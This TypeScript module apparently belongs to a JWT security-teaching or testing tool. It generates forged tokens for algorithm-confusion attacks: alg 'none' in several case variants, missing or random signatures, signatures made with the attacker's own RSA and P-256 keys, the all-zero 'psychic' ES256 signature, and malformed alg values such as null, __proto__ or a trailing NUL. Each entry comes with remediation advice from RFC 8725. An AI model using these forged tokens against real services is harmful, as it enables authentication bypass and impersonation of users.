import { generateKeyPairSync, randomBytes, sign as signWithKey } from 'node:crypto';
import type { Attack } from '../attack.ts';
import type { AttackSession } from '../attack-session.ts';
import { type AttackDefaults, signedTokenAttacks, tokenAttacks } from '../define-attacks.ts';
import { forge, type Part, segment, segmentsOf } from '../forge.ts';

const defaults: AttackDefaults = {
  group: 'algorithm',
  lesson: 4,
  advice:
    "Name the one algorithm yourself, as in decode(token, secret, false, 'HS256'), and compare the header with it (RFC 8725, 3.1).",
};

/** Tokens whose header chooses another algorithm (RFC 8725, 2.1). */
export const algorithm: Attack[] = [
  ...tokenAttacks(defaults, [
    {
      id: 'alg-none',
      name: 'alg "none", and no signature',
      gains: 'Anybody writes a token for anybody, with no key at all.',
      token: (session) => unsigned(session, { alg: 'none' }),
    },
    {
      id: 'alg-none-capital',
      name: 'alg "None", and no signature',
      gains: 'A filter for the word in small letters is passed, and no key is needed.',
      token: (session) => unsigned(session, { alg: 'None' }),
    },
    {
      id: 'alg-none-capitals',
      name: 'alg "NONE", and no signature',
      gains: 'A filter for “none” and “None” is passed, and no key is needed.',
      token: (session) => unsigned(session, { alg: 'NONE' }),
    },
    {
      id: 'alg-none-mixed',
      name: 'alg "nOnE", and no signature',
      gains: 'A list of forbidden spellings is passed by one that nobody thought of.',
      token: (session) => unsigned(session, { alg: 'nOnE' }),
    },
    {
      id: 'alg-empty',
      name: 'alg "", and no signature',
      gains: 'An empty name counts as no algorithm, and the token as checked.',
      token: (session) => unsigned(session, { alg: '' }),
    },
    {
      id: 'alg-none-old-signature',
      name: 'alg "none", and the signature of a good token',
      gains: 'A server that only asks whether there is a signature believes any claims.',
      token: ({ token, claims }) => {
        const [, , signature] = segmentsOf(token);
        return `${segment({ typ: 'JWT', alg: 'none' })}.${segment(claims)}.${signature}`;
      },
    },
    {
      id: 'alg-rs256-own-key',
      name: 'alg "RS256", signed with the attacker’s own RSA key',
      gains: 'Whoever can make a key pair signs for anybody.',
      token: (session) => {
        const text = unsigned(session, { alg: 'RS256' }).slice(0, -1);
        const { privateKey } = generateKeyPairSync('rsa', { modulusLength: 2048 });
        const signature = signWithKey('sha256', Buffer.from(text), privateKey);
        return `${text}.${signature.toString('base64url')}`;
      },
    },
    {
      id: 'alg-es256-own-key',
      name: 'alg "ES256", signed with the attacker’s own key on P-256',
      gains: 'A small key of the attacker’s, made in a moment, signs for anybody.',
      token: (session) => {
        const text = unsigned(session, { alg: 'ES256' }).slice(0, -1);
        const { privateKey } = generateKeyPairSync('ec', { namedCurve: 'P-256' });
        const key = { key: privateKey, dsaEncoding: 'ieee-p1363' } as const;
        return `${text}.${signWithKey('sha256', Buffer.from(text), key).toString('base64url')}`;
      },
    },
    {
      id: 'alg-es256-psychic',
      name: 'alg "ES256", and the psychic signature MAYCAQACAQA',
      gains: 'A verifier that forgets to refuse zeros takes this one signature for every text.',
      token: (session) => `${unsigned(session, { alg: 'ES256' })}MAYCAQACAQA`,
    },
    {
      id: 'alg-es256-zeros',
      name: 'alg "ES256", and a signature of 64 zero bytes',
      gains:
        'The same hole in the form that tokens use: r and s are zero, and everything verifies.',
      token: (session) => unsigned(session, { alg: 'ES256' }) + segment(new Uint8Array(64)),
    },
    ...['RS256', 'ES256', 'PS256', 'EdDSA'].flatMap((alg) => [
      {
        id: `alg-${alg.toLowerCase()}-unsigned`,
        name: `alg "${alg}", and no signature`,
        gains: `A server that has no key for ${alg}, and therefore nothing to compare, lets anybody in.`,
        token: (session: AttackSession) => unsigned(session, { alg }),
      },
      {
        id: `alg-${alg.toLowerCase()}-random`,
        name: `alg "${alg}", and a random signature`,
        gains: `An error in checking ${alg} is taken for a success, or its words leave the server.`,
        token: (session: AttackSession) => unsigned(session, { alg }) + segment(randomBytes(64)),
      },
    ]),
  ]),

  ...signedTokenAttacks(defaults, [
    {
      id: 'alg-hs384-same-secret',
      name: 'alg "HS384", signed by it with the right secret',
      gains: 'The sender chooses among all algorithms that the library knows, the weakest too.',
      token: ({ claims }, secret) =>
        forge(claims, secret, { header: { typ: 'JWT', alg: 'HS384' }, hash: 'sha384' }),
    },
    {
      id: 'alg-hs512-same-secret',
      name: 'alg "HS512", signed by it with the right secret',
      gains: 'The sender chooses the algorithm, so nothing keeps anybody from choosing another.',
      token: ({ claims }, secret) =>
        forge(claims, secret, { header: { typ: 'JWT', alg: 'HS512' }, hash: 'sha512' }),
    },
    ...withHeaders([
      ['alg-none-signed', 'alg "none"', { alg: 'none' }],
      ['alg-hs384-label', 'alg "HS384"', { alg: 'HS384' }],
      ['alg-hs512-label', 'alg "HS512"', { alg: 'HS512' }],
      ['alg-rs256-label', 'alg "RS256"', { alg: 'RS256' }],
      ['alg-missing', 'no alg', { typ: 'JWT' }],
      ['alg-null', 'alg null', { alg: null }],
      ['alg-zero', 'alg 0', { alg: 0 }],
      ['alg-true', 'alg true', { alg: true }],
      ['alg-array', 'alg ["HS256"]', { alg: ['HS256'] }],
      ['alg-object', 'alg {}', { alg: {} }],
      ['alg-to-string', 'alg with a toString of its own', '{"alg":{"toString":"HS256"}}'],
      ['alg-small', 'alg "hs256"', { alg: 'hs256' }],
      ['alg-space', 'alg "HS256" and a space', { alg: 'HS256 ' }],
      ['alg-nul', 'alg "HS256" and a NUL', { alg: 'HS256\0' }],
      ['alg-constructor', 'alg "constructor"', { alg: 'constructor' }],
      ['alg-proto', 'alg "__proto__"', { alg: '__proto__' }],
      ['alg-name-in-capitals', '"ALG" for "alg"', { ALG: 'HS256' }],
    ]),
  ]),
];

/** A token with another header and an empty signature, which ends with the second dot. */
function unsigned({ claims }: AttackSession, header: object): string {
  return `${segment({ typ: 'JWT', ...header })}.${segment(claims)}.`;
}

function withHeaders(rows: [id: string, name: string, header: Part][]) {
  return rows.map(([id, label, header]) => ({
    id,
    name: `${label}, though HS256 with the right secret is what it is signed with`,
    gains: `A reader that goes by the header (${label}) and this server take one token for two different things.`,
    token: ({ claims }: AttackSession, secret: string) => forge(claims, secret, { header }),
  }));
}
